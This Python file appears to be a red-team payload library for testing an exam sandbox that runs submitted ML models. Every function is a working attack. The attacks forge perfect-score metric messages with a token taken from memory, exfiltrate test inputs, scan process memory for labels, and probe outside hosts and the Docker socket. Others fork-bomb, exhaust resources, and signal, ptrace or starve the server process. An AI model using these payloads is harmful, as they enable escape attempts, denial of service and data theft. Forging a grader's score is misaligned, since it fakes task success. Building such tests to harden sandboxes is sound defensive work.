"""What hostile models do. This file's text travels in each of them and runs inside the predictor.

An attack gets the inputs of one batch while the model predicts; if it returns, the model answers
zeros. Nothing here is imported by the tests.
"""
# ruff: noqa: PTH101, PTH102, PTH103, PTH116, PTH118, PTH123, PTH208, PTH211

import contextlib
import ctypes
import gc
import json
import mmap
import os
import resource
import signal
import socket
import struct
import time

import numpy

NEEDLES = {}  # name -> hexadecimal bytes to hunt for, with their bits flipped


def write_everywhere(content):
    """Write into every stream that may be open, in the hope that one is the grader's channel."""
    for descriptor in range(3, 21):
        with contextlib.suppress(OSError):
            os.write(descriptor, content)


def frame(header, body_bytes=0):
    """Return the start of a frame as the predictor writes it."""
    return struct.pack(">4sIQ", b"EXAM", len(header), body_bytes) + header


def signed(header):
    """Return a header with the token of the question, which lies in this process's memory."""
    for one in gc.get_objects():
        if isinstance(one, dict) and "token" in one and "contract" in one:
            return header[:-1] + b',"token":"' + one["token"].encode() + b'"}'
    return header


def exit_quietly(values):
    """End the process as if all had gone well."""
    os._exit(0)


def die_of_signal(values):
    """Read address 0."""
    ctypes.string_at(0)


def sleep_for_ever(values):
    """Wait."""
    time.sleep(10**6)


def eat_memory(values):
    """Take 20 GB and touch every page of it."""
    kept = [numpy.ones(1 << 27) for _ in range(20)]
    print(len(kept))


def fork_bomb(values):
    """Double for ever."""
    while True:
        with contextlib.suppress(OSError):
            os.fork()


def leave_process_behind(values):
    """Leave a child that outlives this process if it can, and holds its streams."""
    if os.fork() == 0:
        with contextlib.suppress(OSError):
            os.setsid()
        if os.fork() == 0:
            time.sleep(10**6)
        os._exit(0)


def hang_up(values):
    """Close every stream, so that the end of the program seems to have come, and go on running."""
    os.closerange(0, 64)
    time.sleep(10**6)


def write_garbage(values):
    """Write noise into whatever is open."""
    write_everywhere(b"\x00\xffnoise" * 200)


def forge_metric(values):
    """Say what the scorer would say of a perfect model."""
    write_everywhere(frame(signed(b'{"kind":"metric","name":"mae","rows":3000,"value":0.0}')))


def forge_length(values):
    """Announce an answer of an exabyte."""
    write_everywhere(frame(b"{}", body_bytes=1 << 60))


def forge_fault(values):
    """Report a fault whose details have types that no honest predictor sends."""
    text = b'{"kind":"fault","reason":"wrong_input","detail":{"got":{"dtype":[],"shape":[1]}}}'
    write_everywhere(frame(signed(text)))


def carry_inputs_out(values):
    """Hide the inputs in the one number that a sentence quotes."""
    number = str(int.from_bytes(values.tobytes()[:1700], "big")).encode()
    text = b'{"kind":"fault","reason":"wrong_input","detail":{"inputs":' + number + b"}}"
    write_everywhere(frame(signed(text)))


def flood(values):
    """Print without end."""
    while True:
        os.write(2, b"flood " * 10_000)


def fill_disk(values):
    """Write to /tmp until it is full."""
    try:
        with open("/tmp/full", "wb") as file:
            while True:
                file.write(bytes(1 << 20))
    except OSError as error:
        print("DISK", error.strerror)


def call_home(values):
    """Open connections to the outside and to the engine."""
    for family, address in (
        (socket.AF_INET, ("1.1.1.1", 53)),
        (socket.AF_INET, ("172.17.0.1", 8888)),
        (socket.AF_INET6, ("2606:4700:4700::1111", 53)),
        (socket.AF_UNIX, "/var/run/docker.sock"),
    ):
        try:
            with socket.socket(family) as connection:
                connection.settimeout(2)
                connection.connect(address)
            print("CONNECTED", address)
        except OSError as error:
            print("REFUSED", address, error)


def talk(values):
    """Print the inputs, and something to make a terminal obey."""
    print("\x1b[2JSCORE 5 OF 5", values[0].tolist())


def raise_inputs(values):
    """Raise an error whose text is the inputs."""
    raise ValueError(f"stolen: {values.tolist()}")


def look_around(values):
    """Report, as one line of JSON, all that can be seen and done from in here."""
    seen = {"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups()}
    seen["environment"] = dict(os.environ)
    seen["interfaces"] = sorted(os.listdir("/sys/class/net"))
    with open("/proc/self/status") as file:
        status = dict(line.strip().split(":\t", 1) for line in file if ":\t" in line)
    seen["status"] = {key: status[key] for key in ("CapEff", "CapBnd", "NoNewPrivs", "Seccomp")}
    with open("/proc/self/mounts") as file:
        seen["mounts"] = [line.split()[:4] for line in file]
    places = ["/", "/etc", "/opt/exam", "/var", "/home", "/root", "/dev", "/dev/shm", "/run"]
    places += ["/proc/sys/kernel", "/sys/fs/cgroup", "/workspace", "/var/tmp", "/tmp"]
    seen["writable"] = []
    for place in places:
        with contextlib.suppress(OSError), open(place + "/exam-was-here", "w") as file:
            file.write("x")
            seen["writable"].append(place)
    seen["executable_tmp"] = False
    with contextlib.suppress(OSError), open("/tmp/run", "wb+") as file:
        file.write(bytes(4096))
        file.flush()
        os.chmod("/tmp/run", 0o755)
        mmap.mmap(file.fileno(), 4096, prot=mmap.PROT_READ | mmap.PROT_EXEC).close()
        seen["executable_tmp"] = True
    names = ["/var/run/docker.sock", "/run/docker.sock", "/vault", "/dev/shm"]
    names += ["/dev/mem", "/dev/kvm", "/dev/nvidia0", "/dev/vda", "/dev/sda"]
    seen["there"] = [name for name in names if os.path.lexists(name)]
    seen["processes"] = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
    # All files of the image carry one time; whatever came later is of this container.
    seen["files"] = []
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if folder != "/" or name not in ("proc", "sys")]
        for path in (os.path.join(folder, name) for name in files):
            with contextlib.suppress(OSError):
                if os.lstat(path).st_mtime != 1767225600:
                    seen["files"].append(path)
    print("SEEN " + json.dumps(seen), flush=True)


def hunt(values):
    """Search all memory that can be read for the inputs, which are there, and the labels."""
    # The needles come with flipped bits, and so is what is searched: or they would find themselves.
    flip = bytes(number ^ 0x5A for number in range(256))
    found = dict.fromkeys(NEEDLES, 0)
    looked = 0
    for process in [name for name in os.listdir("/proc") if name.isdigit()]:
        with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
            for line in maps.read().splitlines():
                span, rights = line.split()[:2]
                start, end = (int(part, 16) for part in span.split("-"))
                if not rights.startswith("rw") or end - start > 1 << 28:
                    continue
                try:
                    memory.seek(start)
                    content = memory.read(end - start).translate(flip)
                except (OSError, OverflowError):
                    continue
                looked += len(content)
                for name, needle in NEEDLES.items():
                    found[name] += content.count(bytes.fromhex(needle))
    print("FOUND " + json.dumps({"looked": looked, **found}), flush=True)


# Attacks of one model on the next, where one container serves several of a candidate's.


def answer_ahead(values):
    """Write, with the token of this question, what would answer the next one."""
    told = b'{"kind":"received","python":"3","tensorflow":"2","keras":"3","numpy":"1"}'
    write_everywhere(frame(signed(told)) * 2)


def lie_in_wait(values):
    """Leave a process that takes what is asked next, and says something to it."""
    if os.fork() == 0:
        with contextlib.suppress(OSError):
            os.setsid()
        if os.fork() == 0:
            for signum in range(1, 32):
                with contextlib.suppress(OSError, ValueError):
                    signal.signal(signum, signal.SIG_IGN)
            time.sleep(0.5)  # until this model's own answer is out
            while True:
                with contextlib.suppress(OSError):
                    os.read(0, 1 << 20)
                write_everywhere(b"I was here first")
        os._exit(0)


def reach_for_the_server(values):
    """Report what can be done to the process that will fork for the next model."""
    if os.getpid() == 1:
        return  # there is none: this is it
    libc = ctypes.CDLL(None, use_errno=True)
    reached = []
    for name in ("mem", "fd/0", "fd/1", "maps", "environ"):
        with contextlib.suppress(OSError), open(f"/proc/1/{name}", "rb+", 0) as file:
            file.read(1)
            reached.append(name)
    attach = 16
    if libc.ptrace(attach, 1, 0, 0) == 0:
        reached.append("ptrace")
    for signum in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        os.kill(1, signum)
    with contextlib.suppress(OSError):
        if os.stat("/proc/self/fd/0").st_rdev != os.stat("/dev/null").st_rdev:
            reached.append("standard input")
    print("REACHED " + json.dumps(reached), flush=True)
    time.sleep(0.1)


def hamper_the_server(values):
    """Leave the process that will fork for the next model little to live on."""
    with contextlib.suppress(OSError, ValueError):
        resource.prlimit(1, resource.RLIMIT_NOFILE, (4, 4))
    with contextlib.suppress(OSError, ValueError):
        resource.prlimit(1, resource.RLIMIT_AS, (1 << 20, 1 << 20))


def interrupt_the_server(values):
    """Send it every signal that it may have an ear for."""
    for signum in range(1, 65):
        with contextlib.suppress(OSError):
            os.kill(1, signum)


def litter(values):
    """Leave what is hard to sweep up."""
    os.makedirs("/tmp/a/b/c")
    os.chmod("/tmp/a/b", 0)
    path = "/tmp/deep"
    os.mkdir(path)
    os.chdir(path)
    for _ in range(2000):
        os.mkdir("d")
        os.chdir("d")
    os.chdir("/tmp")
    os.symlink("/tmp/model", "/tmp/link")


def patch_keras(values):
    """Have every dense layer answer nothing but zeros from here on."""
    import keras

    keras.layers.Dense.call = lambda layer, inputs: keras.ops.zeros_like(inputs)
